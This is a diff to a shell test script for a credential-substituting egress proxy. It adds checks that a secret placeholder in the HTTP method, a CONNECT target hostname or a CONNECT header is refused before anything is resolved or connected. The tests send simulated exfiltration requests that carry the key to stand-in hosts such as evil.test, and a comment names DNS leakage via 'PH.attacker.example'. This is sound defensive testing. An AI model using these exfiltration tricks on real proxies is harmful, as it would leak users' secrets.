@@ -8,7 +8,8 @@
 #   substitution in headers and in Authorization: Basic to a bound host and its subdomains,
 #   over plain HTTP only for a secret set with allow_plain_http (refused, 403, otherwise);
 #   451 and the compromise hook for an unbound host, look-alikes, a body (chunked, split across
-#   chunks; streamed past the buffer), a URL, an opaque tunnel; never substituted in the URL or
+#   chunks; streamed past the buffer), a URL, the method, a CONNECT target or field (before any
+#   connect), an opaque tunnel; never substituted in the URL or
 #   body; CONNECT/SNI/Host disagreements refused; request smuggling refused; a client sending one
 #   byte per second does not stall the others; the egress policy and private addresses; the
 #   audit trail holds names, never values.
@@ -82,6 +83,18 @@ for n in $names; do connect_to+="$n:443:127.0.0.1:$tp,"; done
 for n in plain.bound.test evil.test sub.plain.bound.test; do connect_to+="$n:80:127.0.0.1:$pp,"; done
 connect_to+="api.bound.test:80:127.0.0.1:$pp,api.bound.test:8080:127.0.0.1:$pp,"
 connect_to+="tunnel.bound.test:22:127.0.0.1:$cp,plain.bound.test:22:127.0.0.1:$cp"
+# API_KEY's placeholder as a CONNECT target's first label leads to the raw TCP server too, so
+# that a proxy which resolved or connected such a target would be seen doing it (and would
+# never ask a real resolver). The placeholders are derived from the fixed test salt: a first
+# proxy-listen only writes them.
+"$listen" --state "$w/install" --secrets "$w/secrets.json" --placeholders "$w/ph0.json" \
+    --port-file "$w/proxy0.port" >/dev/null 2>&1 &
+pre=$!
+wait_file "$w/proxy0.port"
+kill $pre
+wait $pre 2>/dev/null || true
+lkey=$($py -c 'import json,sys; print(json.load(open(sys.argv[1]))["API_KEY"].lower())' "$w/ph0.json")
+connect_to+=",$lkey.evil.test:22:127.0.0.1:$cp"
 "$listen" --state "$w/install" --secrets "$w/secrets.json" --placeholders "$w/ph.json" \
     --policy "$w/policy.json" --events "$w/events.jsonl" --ca-file "$w/ca.pem" \
     --connect-to "$connect_to" --port-file "$w/proxy.port" >"$w/proxy.log" 2>&1 &
@@ -167,7 +180,18 @@ expect_leak "chunked body, split across chunks" \
     "$($py "$raw" chunks "$px" http://evil.test/steal10 "x=${KEY:0:$half}" "${KEY:$half}&y")"
 expect_leak "streamed body past the buffer" \
     "$($py "$raw" bigbody "$px" http://evil.test/steal11 1000000 700000 "$KEY")"
-for i in 1 2 3 4 5 6 7 8 9 10 11; do reached "/steal$i" && fail "leak $i reached the server"; done
+# The method, and a CONNECT's target and fields, are scanned before anything is resolved or
+# connected ("CONNECT PH.attacker.example:443" would hand the placeholder to its DNS server).
+expect_leak "method" "$(send "$KEY http://evil.test/steal12 HTTP/1.1\r\nHost: evil.test\r\n\r\n")"
+grep -q '"where":"method"' "$w/events.jsonl" || fail "the leak event does not say method"
+conns=$(grep -c '^#connected' "$w/tcp.log" || true)
+expect_leak "CONNECT target" \
+    "$(send "CONNECT $KEY.evil.test:22 HTTP/1.1\r\nHost: $KEY.evil.test:22\r\n\r\n")"
+expect_leak "CONNECT field" \
+    "$(send "CONNECT tunnel.bound.test:22 HTTP/1.1\r\nHost: tunnel.bound.test:22\r\nX-T: $KEY\r\n\r\n")"
+[ "$(grep -c '^#connected' "$w/tcp.log" || true)" = "$conns" ] ||
+    fail "the proxy connected for a CONNECT that carried a placeholder"
+for i in 1 2 3 4 5 6 7 8 9 10 11 12; do reached "/steal$i" && fail "leak $i reached the server"; done
 cat "$w"/*.partial >"$w/partials" 2>/dev/null || true
 grep -qF "$KEY" "$w/partials" && fail "part of a cut request carried the placeholder"
 # An opaque tunnel (not TLS), scanned raw: cut, reported, the placeholder never arrives whole.
